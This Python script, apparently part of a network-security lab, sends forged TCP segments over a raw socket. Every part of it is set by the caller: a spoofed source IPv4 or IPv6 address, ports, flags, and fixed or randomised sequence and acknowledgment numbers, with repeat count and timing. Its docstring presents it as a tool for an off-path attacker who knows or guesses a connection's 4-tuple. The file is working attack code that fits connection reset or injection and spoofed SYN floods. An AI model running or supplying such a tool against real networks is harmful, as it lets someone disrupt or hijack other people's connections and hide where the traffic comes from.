#!/usr/bin/env python3
"""Sends forged TCP segments over a raw socket (IPv4 or IPv6): any source address, ports,
sequence and acknowledgment numbers and flags, as an off-path attacker who knows (or guesses)
a connection's 4-tuple would. Prints how many were sent.
  spoof_tcp.py --src A --dst B --sport P --dport Q --flags S --seq N [--ack N] [--count N]"""
import argparse
import ipaddress
import random
import socket
import time

import rawpkt

FLAGS = {"F": 0x01, "S": 0x02, "R": 0x04, "P": 0x08, "A": 0x10}


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--src", required=True)
    ap.add_argument("--dst", required=True)
    ap.add_argument("--sport", type=int, required=True)
    ap.add_argument("--dport", type=int, required=True)
    ap.add_argument("--flags", default="S", help="letters of F S R P A")
    ap.add_argument("--seq", type=int, required=True, help="-1: a random one for each segment")
    ap.add_argument("--ack", type=int, default=0, help="-1: a random one for each segment")
    ap.add_argument("--count", type=int, default=1)
    ap.add_argument("--gap", type=float, default=0.01, help="seconds between segments")
    args = ap.parse_args()
    src, dst = ipaddress.ip_address(args.src), ipaddress.ip_address(args.dst)
    flags = sum(FLAGS[c] for c in args.flags)
    # A SYN carries an MSS option, as a real one does.
    opts = b"\x02\x04\x05\xb4" if flags & 0x02 else b""
    fam = socket.AF_INET if src.version == 4 else socket.AF_INET6
    s = socket.socket(fam, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for i in range(args.count):
        seq = random.getrandbits(32) if args.seq < 0 else args.seq & 0xFFFFFFFF
        ack = random.getrandbits(32) if args.ack < 0 else args.ack & 0xFFFFFFFF
        seg = rawpkt.tcp_segment(src, dst, args.sport, args.dport, seq, ack, flags, opts=opts)
        if src.version == 4:
            pkt = rawpkt.ipv4(src, dst, seg)
        else:
            pkt = rawpkt.ipv6(src, dst, seg, 6)
        s.sendto(pkt, (str(dst), 0))
        if i + 1 < args.count:
            time.sleep(args.gap)
    print(args.count, flush=True)


if __name__ == "__main__":
    main()
